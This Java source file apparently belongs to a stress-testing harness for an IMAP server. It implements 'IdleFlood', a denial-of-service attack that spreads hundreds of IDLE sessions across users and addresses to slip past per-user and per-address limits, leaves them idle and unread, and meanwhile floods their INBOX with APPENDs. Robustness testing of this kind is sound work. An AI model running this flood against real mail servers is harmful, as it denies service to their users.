package satchel.attack;

import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Unnamed class (i): hundreds of IDLE sessions (spread over the attacker users and over addresses so that no
 * per-user or per-address limit is what stops them) that toggle DONE / IDLE quickly, then stay in IDLE without
 * reading while one session appends to the first attacker's INBOX, so every one of them has updates to send.
 */
record IdleFlood() implements Attack {
    @Override public String name() { return "i-idle-flood"; }
    @Override public String what() { return "hundreds of IDLE sessions toggling DONE/IDLE, then idle and unread while their INBOX changes"; }

    @Override public String run(Ctx ctx) {
        int n = ctx.sizes().idleSessions();
        int users = ctx.target().attackers().size();
        int perAddress = Math.max(1, ctx.sizes().perAddress() - 10);
        AtomicInteger idling = new AtomicInteger();
        AtomicLong toggles = new AtomicLong();
        AtomicLong errors = new AtomicLong();
        Thread[] started = new Thread[n];
        for (int i = 0; i < n; i++) {
            int id = i;
            started[i] = Thread.ofVirtual().start(() -> {
                try {
                    var w = ctx.login(id / perAddress, id % users, 0);
                    if (w == null) return;
                    w.command("s", "SELECT INBOX");
                    for (int k = 0; k < 50 && ctx.timeLeft(); k++) {
                        w.send("i IDLE\r\n");
                        w.until("+", "i");
                        w.send("DONE\r\n");
                        w.await("i");
                        toggles.incrementAndGet();
                    }
                    w.send("i IDLE\r\n");
                    idling.incrementAndGet();
                } catch (Exception e) {
                    errors.incrementAndGet();
                }
            });
        }
        int appended = 0;
        try (var w = Wire.open(ctx.target(), ctx.from(249), false, 10_000, 0)) {
            if (w.login(ctx.target().attacker(0), ctx.target().password())) {
                byte[] msg = Fixture.message(0, 512);
                for (; appended < 1_000 && ctx.timeLeft(); appended++) {
                    w.send("a APPEND INBOX {" + msg.length + "}\r\n");
                    if (!w.until("+", "a").startsWith("+")) break;
                    w.send(msg);
                    w.send("\r\n");
                    w.await("a");
                    ctx.sleep(20);
                }
            }
        } catch (Exception e) {
            errors.incrementAndGet();
        }
        ctx.hold();
        return n + " sessions: " + idling + " left idling unread after " + toggles + " DONE/IDLE toggles; "
                + appended + " APPENDs to their INBOX meanwhile; " + errors + " errors";
    }
}
